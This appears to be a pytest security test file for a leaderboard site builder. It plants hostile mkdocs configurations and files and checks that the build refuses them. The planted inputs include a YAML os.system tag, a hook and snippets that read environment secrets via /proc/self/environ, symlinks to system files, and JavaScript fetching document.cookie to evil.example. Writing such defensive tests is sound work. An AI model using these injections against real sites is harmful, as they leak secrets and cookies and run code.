"""The authorised build refuses site config or sources that could read outside the site
(security invariant 6), whoever merged them; withdrawn and over-budget bundles stay out.

Each site case is merged straight into the instance (as if a maintainer had merged it),
then the real authorised build runs (with rendering): it must stop with UnsafeSiteError
before reading any bundle, listing exactly the expected (where, reason) findings, and
nothing the hostile config asked for may have happened.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from builder.demo.instance import DEMO_EMBARGO
from builder.render.site_guard import UnsafeSiteError, check_mkdocs_config
from hostile.support import ACME, BENCH, BETA, VALID_ROWS, Instance, outcome, run, where_of


def append(inst: Instance, rel: str, text: str) -> None:
    path = inst.root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text((path.read_text() if path.exists() else "") + text)


def hooks_write_a_file(inst: Instance, marker: Path) -> None:
    append(
        inst,
        "evil_hook.py",
        f"import os\ndef on_config(config):\n    open({str(marker)!r}, 'w').write(os.environ.get('SEALBOARD_IDENTITY', 'x'))\n",
    )
    append(inst, "mkdocs.yml", "hooks:\n  - evil_hook.py\n")


def snippets_proc_environ(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "  - pymdownx.snippets:\n      base_path: [/proc/self]\n      check_paths: true\n")
    append(inst, "site_src/env.md", '--8<-- "environ"\n')


def snippets_default_settings(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "  - pymdownx.snippets\n")


def python_tag(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", f"extra:\n  x: !!python/object/apply:os.system ['touch {marker}']\n")


def env_tag(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "extra:\n  secret: !ENV SEALBOARD_IDENTITY\n")


def inherit(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "INHERIT: ../../etc/mkdocs.yml\n")


def plugin_off_the_list(inst: Instance, marker: Path) -> None:
    text = (inst.root / "mkdocs.yml").read_text().replace("  - sealboard\n", "  - sealboard\n  - macros\n", 1)
    (inst.root / "mkdocs.yml").write_text(text)


def custom_dir_outside(inst: Instance, marker: Path) -> None:
    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", "  name: material\n  custom_dir: /etc\n", 1)
    (inst.root / "mkdocs.yml").write_text(text)


def set_custom_dir(inst: Instance, folder: str) -> Path:
    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", f"  name: material\n  custom_dir: {folder}\n", 1)
    (inst.root / "mkdocs.yml").write_text(text)
    (inst.root / folder).mkdir(parents=True, exist_ok=True)
    return inst.root / folder


def custom_dir_with_link(inst: Instance, marker: Path) -> None:
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "partials").mkdir()
    os.symlink("/etc/hostname", folder / "partials" / "footer.html")


def custom_dir_is_the_root(inst: Instance, marker: Path) -> None:
    # mkdocs copies a theme folder's non-template files into the site: here keys/ and bundles/.
    set_custom_dir(inst, ".")


def custom_dir_is_keys(inst: Instance, marker: Path) -> None:
    set_custom_dir(inst, "keys/")


def custom_dir_outside_site_src(inst: Instance, marker: Path) -> None:
    set_custom_dir(inst, "overrides")


def custom_dir_replaces_generated_data(inst: Instance, marker: Path) -> None:
    # A fake index.json made `release verify --site` pass a rehearsal (issue 20).
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "data").mkdir()
    (folder / "data" / "index.json").write_text('{"rehearsal": false}')


def custom_dir_replaces_main_template(inst: Instance, marker: Path) -> None:
    # Sealboard's main.html carries the rehearsal banner and noindex on every page.
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "main.html").write_text('{% extends "base.html" %}\n')


def custom_dir_replaces_the_fragments_template(inst: Instance, marker: Path) -> None:
    # sealboard-fragments.html puts the generated pages' tables in place (render/fragments.py).
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "sealboard-fragments.html").write_text('{% extends "main.html" %}\n')


def custom_dir_writes_a_generated_table(inst: Instance, marker: Path) -> None:
    # A board's table is a fragment file of the theme folder: an instance may not write one.
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "fragments" / BENCH).mkdir(parents=True)
    (folder / "fragments" / BENCH / "overall-1.html").write_text("<table><tr><td>made up</td></tr></table>\n")


def custom_dir_replaces_an_asset(inst: Instance, marker: Path) -> None:
    folder = set_custom_dir(inst, "site_src/overrides")
    (folder / "assets").mkdir()
    (folder / "assets" / "sealboard.js").write_text("fetch('https://evil.example/?'+document.cookie)")


def site_src_replaces_an_asset(inst: Instance, marker: Path) -> None:
    append(inst, "site_src/assets/tablesort.min.js", "fetch('https://evil.example/')")


def site_src_replaces_a_vendored_asset(inst: Instance, marker: Path) -> None:
    append(inst, "site_src/assets/katex/katex.min.js", "fetch('https://evil.example/')")


def site_src_adds_an_unattested_file(inst: Instance, marker: Path) -> None:
    # attestation/ lists every other file; a file placed there would be published unattested.
    append(inst, "site_src/attestation/statement.json", "{}")


def site_src_replaces_the_changelog(inst: Instance, marker: Path) -> None:
    append(inst, "site_src/changelog.md", "# Nothing changed\n")


def external_javascript(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "extra_javascript:\n  - https://cdn.example.com/tracker.js\n")


def external_javascript_protocol_relative(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "extra_javascript:\n  - path: //cdn.example.com/tracker.js\n    async: true\n")


def external_css(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "extra_css:\n  - HTTPS://fonts.example.com/x.css\n")


def analytics(inst: Instance, marker: Path) -> None:
    append(inst, "mkdocs.yml", "extra:\n  analytics:\n    provider: google\n    property: G-XXXXXXX\n")


def web_fonts(inst: Instance, marker: Path) -> None:
    text = (inst.root / "mkdocs.yml").read_text().replace("  name: material\n", "  name: material\n  font:\n    text: Roboto\n", 1)
    (inst.root / "mkdocs.yml").write_text(text)


def external_logo(inst: Instance, marker: Path) -> None:
    text = (
        (inst.root / "mkdocs.yml")
        .read_text()
        .replace("  name: material\n", "  name: material\n  logo: https://evil.example/pixel.png\n", 1)
    )
    (inst.root / "mkdocs.yml").write_text(text)


def symlink_in_site_src(inst: Instance, marker: Path) -> None:
    os.symlink("/proc/self/environ", inst.root / "site_src" / "env.md")


def shadows_generated_data(inst: Instance, marker: Path) -> None:
    append(inst, f"site_src/data/{BENCH}/overall.json", '{"rows": []}')


def bundles_gitattributes(inst: Instance, marker: Path) -> None:
    append(inst, "bundles/.gitattributes", "* text eol=crlf\n")


def root_gitattributes_filter(inst: Instance, marker: Path) -> None:
    append(inst, ".gitattributes", "*.json filter=lfs diff=lfs merge=lfs -text\n")


SITE_CASES: dict[str, tuple[Callable[[Instance, Path], None], list[tuple[str, str]]]] = {
    "site/mkdocs-hooks-write-a-file": (hooks_write_a_file, [("mkdocs.yml", "mkdocs-hooks")]),
    "site/snippets-proc-self-environ": (snippets_proc_environ, [("mkdocs.yml", "mkdocs-snippets")]),
    "site/snippets-any-settings": (snippets_default_settings, [("mkdocs.yml", "mkdocs-snippets")]),
    "site/python-object-apply-tag": (python_tag, [("mkdocs.yml", "mkdocs-yaml-tag")]),
    "site/env-tag-copies-the-secret": (env_tag, [("mkdocs.yml", "mkdocs-yaml-tag")]),
    "site/inherit": (inherit, [("mkdocs.yml", "mkdocs-inherit")]),
    "site/plugin-not-on-allow-list": (plugin_off_the_list, [("mkdocs.yml", "plugin-not-allowed")]),
    "site/custom-dir-outside": (custom_dir_outside, [("mkdocs.yml", "mkdocs-path")]),
    "site/custom-dir-holds-a-link": (custom_dir_with_link, [("site_src/overrides/partials/footer.html", "site-symlink")]),
    "site/custom-dir-is-the-root": (custom_dir_is_the_root, [("mkdocs.yml", "mkdocs-path")]),
    "site/custom-dir-is-keys": (custom_dir_is_keys, [("mkdocs.yml", "mkdocs-path")]),
    "site/custom-dir-outside-site-src": (custom_dir_outside_site_src, [("mkdocs.yml", "mkdocs-path")]),
    "site/custom-dir-replaces-data-index": (
        custom_dir_replaces_generated_data,
        [("site_src/overrides/data/index.json", "shadows-generated")],
    ),
    "site/custom-dir-replaces-main-html": (custom_dir_replaces_main_template, [("site_src/overrides/main.html", "shadows-generated")]),
    "site/custom-dir-replaces-the-fragments-template": (
        custom_dir_replaces_the_fragments_template,
        [("site_src/overrides/sealboard-fragments.html", "shadows-generated")],
    ),
    "site/custom-dir-writes-a-generated-table": (
        custom_dir_writes_a_generated_table,
        [(f"site_src/overrides/fragments/{BENCH}/overall-1.html", "shadows-generated")],
    ),
    "site/custom-dir-replaces-an-asset": (custom_dir_replaces_an_asset, [("site_src/overrides/assets/sealboard.js", "shadows-generated")]),
    "site/site-src-replaces-an-asset": (site_src_replaces_an_asset, [("site_src/assets/tablesort.min.js", "shadows-generated")]),
    "site/site-src-replaces-a-vendored-asset": (
        site_src_replaces_a_vendored_asset,
        [("site_src/assets/katex/katex.min.js", "shadows-generated")],
    ),
    "site/site-src-writes-into-the-attestation": (
        site_src_adds_an_unattested_file,
        [("site_src/attestation/statement.json", "shadows-generated")],
    ),
    "site/site-src-replaces-the-changelog": (site_src_replaces_the_changelog, [("site_src/changelog.md", "shadows-generated")]),
    "site/extra-javascript-elsewhere": (external_javascript, [("mkdocs.yml", "external-script")]),
    "site/extra-javascript-protocol-relative": (external_javascript_protocol_relative, [("mkdocs.yml", "external-script")]),
    "site/extra-css-elsewhere": (external_css, [("mkdocs.yml", "external-style")]),
    "site/analytics": (analytics, [("mkdocs.yml", "analytics")]),
    "site/web-fonts": (web_fonts, [("mkdocs.yml", "external-font")]),
    "site/logo-elsewhere": (external_logo, [("mkdocs.yml", "external-asset")]),
    "site/symlink-in-site-src": (symlink_in_site_src, [("site_src/env.md", "site-symlink")]),
    "site/site-src-data-shadows-a-board": (shadows_generated_data, [(f"site_src/data/{BENCH}/overall.json", "shadows-generated")]),
    "site/bundles-gitattributes-eol-crlf": (bundles_gitattributes, [("bundles/.gitattributes", "gitattributes")]),
    "site/root-gitattributes-filter": (root_gitattributes_filter, [(".gitattributes", "gitattributes")]),
}


@pytest.mark.parametrize("case", list(SITE_CASES), ids=list(SITE_CASES))
def test_build_refuses_unsafe_site(case: str, inst: Instance, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from builder.pipeline.build import build

    mutate, expected = SITE_CASES[case]
    marker = tmp_path / "pwned"
    mutate(inst, marker)
    monkeypatch.setenv("SEALBOARD_IDENTITY", "AGE-SECRET-KEY-1NOTTHEREALONE")
    out = tmp_path / "site"
    with pytest.raises(UnsafeSiteError) as caught:
        build(inst.root, out, identities=[inst.identity])
    assert caught.value.reason == "unsafe-site"
    assert sorted((f.where, f.reason) for f in caught.value.findings) == sorted(expected), str(caught.value)
    assert not marker.exists() and not out.exists()
    assert not (inst.root / ".sealboard").exists(), "refused before anything was staged"


def test_shipped_configs_are_safe() -> None:
    from builder.demo.instance import MKDOCS_YML

    root = Path(__file__).resolve().parents[2]
    assert check_mkdocs_config((root / "mkdocs.yml").read_bytes()) == []
    assert check_mkdocs_config(MKDOCS_YML.encode()) == []


# --- tombstones and the budget, in the build -----------------------------------------------


def test_build_honours_tombstone(inst: Instance) -> None:
    (inst.root / "bundles" / BENCH / f"{ACME}.withdrawn").write_text(
        "format: sealboard-withdrawn/1\nwithdrawn: 2026-11-20T00:00:00Z\ncreated: 2026-11-01T00:00:00Z\nreason: lab request\n"
    )
    report = run(inst)
    assert outcome(report) == {(where_of(ACME), "withdrawn")}
    assert {b.manifest.key for s in report.benchmarks for b in s.bundles} == {BETA}


def test_build_unreadable_tombstone_still_withdraws(inst: Instance) -> None:
    (inst.root / "bundles" / BENCH / f"{ACME}.withdrawn").write_text("not: [valid\n")
    report = run(inst)
    assert outcome(report) == {(where_of(ACME), "withdrawn"), (f"bundles/{BENCH}/{ACME}.withdrawn", "bad-tombstone")}


def test_build_enforces_the_budget(inst: Instance) -> None:
    config = inst.root / "leaderboards" / f"{BENCH}.yaml"
    config.write_text(config.read_text().replace(DEMO_EMBARGO, "embargo:\n  budget: {bundles: 3, window_days: 30}\n"))
    for name in ("run-3", "run-4", "run-5"):
        inst.add_submission("acme", name, VALID_ROWS)
    report = run(inst)
    assert outcome(report) == {(where_of("acme/run-5"), "over-budget")}
    (rejection,) = report.rejections
    assert "3 submission(s) per lab per 30 days" in rejection.message
